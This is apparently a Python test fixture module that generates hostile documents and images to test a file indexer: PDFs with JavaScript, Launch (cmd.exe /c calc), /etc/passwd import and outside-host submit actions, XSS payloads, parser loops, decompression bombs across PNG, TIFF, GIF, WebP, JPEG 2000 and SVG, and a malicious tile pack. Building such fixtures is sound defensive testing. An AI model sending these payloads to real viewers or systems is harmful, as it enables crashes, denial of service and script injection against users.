"""Hostile documents and pictures: PDFs that act, loop or swell, pictures of impossible size, evil tile packs."""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from typing import TYPE_CHECKING

from PIL import Image

from tests.indexer.rendition_files import looping_pdf, pdf_of, plain_pdf, stream

if TYPE_CHECKING:
    from tests.hostile_files import Target

_PAGES = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
_PAGE = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 200 300]"
XHTML = "http://www.w3.org/1999/xhtml"


def pdf_actions(target: Target) -> bytes:
    """Every action that a PDF knows, at opening, on the page and on links, an embedded program, forms."""
    out = target.outside.encode()
    js = (
        b"/S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('%b/pdf-js'\\); "
        b"app.launchURL\\('%b/pdf-url'\\);)" % (out, out)
    )
    actions = [
        js,
        b"/S /URI /URI (%b/pdf-uri)" % out,
        b"/S /URI /URI (javascript:window.__pwned=1)",
        b"/S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >>",
        b"/S /GoToR /F (%b/other.pdf) /D [0 /Fit] /NewWindow true" % out,
        b"/S /SubmitForm /F << /FS /URL /F (%b/pdf-submit) >> /Flags 4" % out,
        b"/S /ImportData /F (/etc/passwd)",
        b"/S /Named /N /Print",
        b"/S /GoToE /T << /R /C /N (evil) >> /D [0 /Fit]",
        b"/S /Rendition /OP 0 /JS (app.alert\\(1\\))",
    ]
    links = b"".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 %d 200 %d] /A << %b >> >>" % (n * 20, n * 20 + 18, action)
        for n, action in enumerate(actions)
    )
    widget = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /V (v) /Rect [0 220 99 240] "
        b"/AA << /K << %b >> /F << %b >> >> >>" % (js, js)
    )
    attached = b"<< /Type /Annot /Subtype /FileAttachment /Rect [100 220 120 240] /FS 6 0 R >>"
    catalogue = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %b /Next [ << %b >> << %b >> ] >> "
        b"/AA << /WC << %b >> /DS << %b >> >> "
        b"/Names << /JavaScript << /Names [(a) << %b >>] >> /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> "
        b"/AcroForm << /Fields [8 0 R] /XFA 9 0 R /NeedAppearances true >> /URI << /Base (%b/base) >> "
        b"/Outlines 10 0 R >>"
    ) % (js, actions[1], actions[3], js, js, js, out)
    xfa = (
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>"
        b"<template xmlns='http://www.xfa.org/schema/xfa-template/3.0/'>"
        b"<subform><event activity='initialize'>"
        b"<script contentType='application/x-javascript'>xfa.host.gotoURL('%b/xfa')"
        b"</script></event><draw><value><exData contentType='text/html'><body xmlns='%b'>"
        b"<script>top.__pwned=1</script>"
        b"<img src='%b/xfa-img' onerror='top.__pwned=1'/></body></exData></value></draw></subform>"
        b"</template></xdp:xdp>"
    ) % (out, XHTML.encode(), out)
    return pdf_of(
        {
            1: catalogue,
            2: _PAGES[2],
            3: b"<< %b /Contents 4 0 R /AA << /O << %b >> /C << %b >> >> /Annots [%b %b %b] >>"
            % (_PAGE, js, actions[1], links, widget, attached),
            4: stream(b"0 0 100 150 re f"),
            5: b"<< >>",
            6: b"<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 7 0 R >> >>",
            7: stream(b"MZ this program", b"/Type /EmbeddedFile"),
            8: widget,
            9: stream(xfa),
            10: b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
            11: b"<< /Title (<img src=x onerror=top.__pwned=1>) /Parent 10 0 R /Next 11 0 R /A << %b >> >>"
            % actions[2],
        }
    )


def pdf_xref_loop() -> bytes:
    """Cross-reference tables that name each other as the one before."""
    body = plain_pdf()
    start = body.rindex(b"xref\n", 0, body.rindex(b"startxref"))
    return body.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d /XRefStm %d" % (start, start))


def pdf_page_loop() -> bytes:
    """A tree of pages that holds itself, and claims two thousand million of them."""
    return pdf_of(
        {1: _PAGES[1], 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 2000000000 >>", 3: b"<< %b >>" % _PAGE}
    )


def pdf_lost_page() -> bytes:
    """A tree of pages whose only page cannot be reached from its root."""
    return pdf_of({1: _PAGES[1], 2: b"<< /Type /Pages /Kids 3 0 R /Count 1 >>", 3: b"<< %b >>" % _PAGE})


def pdf_stream_bomb(size: int = 256 << 20) -> bytes:
    """Drawing of 256 MiB, packed twice into a few hundred bytes."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b"0 0 m " * (1 << 18)) for _ in range(size // (6 << 18))) + packer.flush()
    return pdf_of(
        {
            **_PAGES,
            3: b"<< %b /Contents 4 0 R >>" % _PAGE,
            4: stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]"),
        }
    )


def pdf_huge_page() -> bytes:
    """A page of a thousand million points."""
    return plain_pdf(box=b"0 0 1000000000 1000000000")


def pdf_huge_picture() -> bytes:
    """A picture of 60,000 by 60,000 points in a small stream, and a thousand of its kind on the page."""
    size = b"/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    kind = b"/Type /XObject /Subtype /Image %b /Filter /FlateDecode" % size
    return pdf_of(
        {
            **_PAGES,
            3: b"<< %b /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>" % _PAGE,
            4: stream(b"q 9 0 0 9 0 0 cm /I Do Q " * 1000),
            5: stream(zlib.compress(bytes(8 << 20), 9), kind),
        }
    )


def pdf_calls() -> bytes:
    """Forms that call forms: 12 to the power of 9 rectangles."""
    return looping_pdf()


def pdf_fonts() -> bytes:
    """A font whose letters are drawings in that font."""
    procedure = stream(b"1000 0 d0 BT /F 9 Tf (aaaaaaaaaaaaaaaa) Tj ET")
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] "
        b"/FirstChar 97 /LastChar 97 /Widths [1000] /Encoding << /Type /Encoding /Differences [97 /a] >> "
        b"/CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>"
    )
    page = b"<< %b /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>" % _PAGE
    return pdf_of({**_PAGES, 3: page, 4: stream(b"BT /F 9 Tf 9 9 Td (aaaaaaaaaaaaaaaa) Tj ET"), 5: font, 6: procedure})


# — pictures —


def _png(width: int, height: int, pixels: bytes, depth: int = 8, colour: int = 2, more: bytes = b"") -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def png_claim() -> bytes:
    """Two thousand million by two thousand million points, and nothing in it."""
    return _png(0x7FFF_FFFF, 0x7FFF_FFFF, zlib.compress(b"\0"))


def png_bomb(side: int = 22_000) -> bytes:
    """22,000 by 22,000 points of one bit: 60 kB, 484 megapixels, 1.9 GB on a screen."""
    packer = zlib.compressobj(9)
    row = bytes(1 + side // 8)
    pixels = b"".join(packer.compress(row * 500) for _ in range(side // 500)) + packer.flush()
    return _png(side, side, pixels, depth=1, colour=0)


def png_text_bomb() -> bytes:
    """A small picture with a compressed note of 64 MiB."""
    note = b"note\0\0" + zlib.compress(bytes(64 << 20), 9)
    chunk = struct.pack(">I", len(note)) + b"zTXt" + note + struct.pack(">I", zlib.crc32(b"zTXt" + note))
    return _png(1, 1, zlib.compress(b"\0\0\0\0"), more=chunk * 8)


def _tiff(entries: list[tuple[int, int, int, int]], following: int = 0) -> bytes:
    body = struct.pack("<2sHI", b"II", 42, 8) + struct.pack("<H", len(entries))
    return body + b"".join(struct.pack("<HHII", *entry) for entry in entries) + struct.pack("<I", following) + bytes(64)


def tiff_claim() -> bytes:
    """Four thousand million lines in one strip."""
    ones = [(258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 100), (277, 3, 1, 1), (278, 4, 1, 0xFFFF_FFFF)]
    return _tiff([(256, 4, 1, 0xFFFF_FFFF), (257, 4, 1, 0xFFFF_FFFF), *ones, (279, 4, 1, 0xFFFF_FFFF)])


def tiff_loop() -> bytes:
    """Its only page names itself as the next one."""
    ones = [
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 120),
        (277, 3, 1, 1),
        (278, 4, 1, 1),
        (279, 4, 1, 1),
    ]
    return _tiff([(256, 4, 1, 1), (257, 4, 1, 1), *ones], following=8)


def tiff_bomb(side: int = 13_000) -> bytes:
    """13,000 by 13,000 points that are unpacked twelve pages long: 170 megapixels each, 20 kB."""
    out = io.BytesIO()
    Image.new("1", (side, side), 1).save(out, "TIFF", compression="group4")
    return out.getvalue()


def gif_claim() -> bytes:
    """A screen of 65,535 by 65,535 points and ten thousand pictures of that size."""
    frame = (
        b"\x21\xf9\x04\x04\x01\x00\x00\x00\x2c" + struct.pack("<4HB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00"
    )
    return b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff" + frame * 10_000 + b";"


def webp_bomb() -> bytes:
    """The largest picture that WebP knows, 16,383 by 16,383 points: 268 megapixels in 34 bytes."""
    return bytes.fromhex("524946461a000000574542505650384c0e0000002ffebfff0f071011fd0f4444ff03")


def jp2_claim() -> bytes:
    """JPEG 2000 of four thousand million by four thousand million points in tiles of one point."""
    size = struct.pack(">HHIIIIIIIIH3B", 41, 0, 0xFFFF_FFFF, 0xFFFF_FFFF, 0, 0, 1, 1, 0, 0, 1, 7, 1, 1)
    code = b"\xff\x4f\xff\x51" + size + b"\xff\x52\x00\x0c\x00\x00\x00\x01\x00\x05\x04\x04\x00\x01\xff\x93\xff\xd9"
    head = struct.pack(">I4sIIHBBBB", 22, b"ihdr", 0xFFFF_FFFF, 0xFFFF_FFFF, 1, 7, 7, 0, 0)
    boxes = struct.pack(">I4s", 8 + len(head), b"jp2h") + head + struct.pack(">I4s", 8 + len(code), b"jp2c") + code
    return b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0\0\0\x14ftypjp2 \0\0\0\0jp2 " + boxes


def svg_bomb() -> bytes:
    """Drawings of drawings: ten to the power of twelve rectangles."""
    lines = ["<rect id='a0' width='9' height='9'/>"]
    for n in range(1, 13):
        lines.append(f"<g id='a{n}'>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>")
    return f"<svg xmlns='http://www.w3.org/2000/svg'><defs>{''.join(lines)}</defs><use href='#a12'/></svg>".encode()


# — tile packs —


def evil_tilepack(target: Target) -> bytes:
    """Descriptors that are pages with scripts or name tiles elsewhere, tiles that are pages, too many levels."""
    script = f"<script xmlns='{XHTML}' src='{target.box}/items/{target.script_item}'/>"
    inline = f"<script xmlns='{XHTML}'>top.__pwned=1</script>"
    image = (
        "<Image xmlns='http://schemas.microsoft.com/deepzoom/2008' Format='webp' Overlap='1' TileSize='510' Url='{}'>"
    )
    size = "<Size Width='{0}' Height='{0}'/></Image>"
    files = {
        "0001.dzi": f"<html xmlns='{XHTML}'><body>{script}{inline}<img src='{target.outside}/dzi'/></body></html>",
        "0002.dzi": image.format(f"{target.outside}/tiles/") + size.format(900),
        "0003.dzi": image.format(f"{target.box}/end?tiles=") + size.format(900),
        "0004.dzi": image.format("") + size.format(2**31 - 1),
        "0005.dzi": json.dumps({"Image": {"Url": f"{target.outside}/json/", "Format": "webp", "TileSize": 0}}),
        "0006.dzi": "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;'>]>"
        + image.format("&b;")
        + size.format(9),
        "0007.dzi": "window.__pwned = 1",
        **{
            f"{n:04}_files/0/0_0.webp": f"<html><script>top.__pwned=1</script><img src='{target.outside}/tile'>"
            for n in range(1, 8)
        },
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as pack:
        for name, body in files.items():
            pack.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), body)
    return out.getvalue()
